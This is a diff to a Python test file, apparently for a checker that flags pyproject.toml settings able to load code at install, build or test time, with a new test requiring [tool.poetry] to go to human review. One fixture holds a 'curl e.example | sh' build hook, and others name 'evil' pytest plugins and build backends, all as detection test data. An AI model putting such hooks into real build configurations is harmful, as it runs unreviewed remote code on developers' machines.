@@ -118,7 +118,13 @@ def test_files_that_install(name: str) -> None:
         ("pyproject.toml", "[tool.cibuildwheel]\nbefore-all = 'curl e.example | sh'\n", "", True),
         ("pyproject.toml", "[tool.setuptools.cmdclass]\ninstall = 'a.Install'\n", "", True),
         ("pyproject.toml", "[tool.mypy]\nplugins = ['a.py']\n", "", True),
-        ("pyproject.toml", "[tool.setuptools.packages.find]\nwhere = ['src']\n", "", True),
+        ("pyproject.toml", "[tool.setuptools.packages.find]\nwhere = ['src']\n", "", False),
+        ("pyproject.toml", "[tool.setuptools]\npackages = ['m']\npackage-dir = {m = 'src'}\npackage-data = {m = ['*.txt']}\n", "", False),
+        ("pyproject.toml", "[tool.setuptools.dynamic]\ndependencies = {file = ['x']}\n", "", True),
+        ("pyproject.toml", "[tool.setuptools.packages]\nother = 1\n", "", True),
+        ("pyproject.toml", "[tool.pytest.ini_options]\ntestpaths = ['tests']\naddopts = '-q --color=yes'\n", "", False),
+        ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = ['-pevil']\n", "", True),
+        ("pyproject.toml", "[tool.pytest.ini_options]\npythonpath = ['src']\n", "", True),
         ("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-q -p evil'\n", "", True),
         ("pyproject.toml", "[[tool.mypy.overrides]]\nmodule = 'a'\n[tool.coverage.run]\nbranch = true\n", "", False),
         ("pyproject.toml", "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'evil_backend'\n", "", True),
@@ -146,6 +152,16 @@ def test_lists_of_a_project_are_read_and_others_ask(
     )
     assert bool(found["perhaps"]) is is_asked
     assert [told in problem for _, problem in found["requirements"]] == ([True] if told else [])
+
+
+def test_a_table_that_is_not_looked_into_is_named(tmp_path: Path) -> None:
+    (tmp_path / "a").write_text("[tool.poetry.dependencies]\nnumpy = 1\n", encoding="utf-8")
+    found = inspect_published(
+        {"kind": "requirements", "copy": str(tmp_path / "a"), "path": "pyproject.toml", "packages": []}
+    )
+    assert [told for _, told in found["perhaps"]] == [
+        "has [tool.poetry], which may load code and is not looked into: leave it out, or a person looks"
+    ]
 
 
 @pytest.mark.parametrize(
